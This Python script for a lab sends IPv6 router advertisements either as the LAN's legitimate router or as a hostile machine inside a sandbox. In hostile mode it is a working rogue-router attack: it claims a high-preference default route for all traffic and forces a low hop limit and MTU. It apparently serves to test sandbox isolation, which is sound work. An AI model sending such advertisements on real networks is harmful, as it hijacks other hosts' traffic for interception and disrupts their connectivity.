"""A router advertisement: advertise.py LINK PREFIX, as a hostile inside of the sandbox would send it; with `router` after
these, as the router of the lab's LAN does."""

import socket
import struct
import sys

link, prefix = sys.argv[1], socket.inet_pton(socket.AF_INET6, sys.argv[2])
hostile = sys.argv[3:] != ["router"]
source, everyone = (socket.inet_pton(socket.AF_INET6, text) for text in ("fe80::bad" if hostile else "fe80::1", "ff02::1"))
# A router for half an hour, a network of its own for addresses (on-link, autonomous, /64); of a hostile one also a route for
# everything, a hop limit and an MTU.
body = struct.pack("!BBHBBHII", 134, 0, 0, 9 if hostile else 0, 0, 1800, 0, 0)
body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + prefix
if hostile:
    body += struct.pack("!BBBBI", 24, 1, 0, 0x08, 1800) + struct.pack("!BBHI", 5, 1, 0, 1300)
pseudo = source + everyone + struct.pack("!II", len(body), 58)
words = struct.unpack(f"!{(len(pseudo) + len(body)) // 2}H", pseudo + body)
total = sum(words)
while total >> 16:
    total = (total & 0xFFFF) + (total >> 16)
body = body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:]
frame = bytes.fromhex("333300000001" "0274726f6302" "86dd") + struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + everyone + body
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((link, 0))
for _ in range(5):
    wire.send(frame)
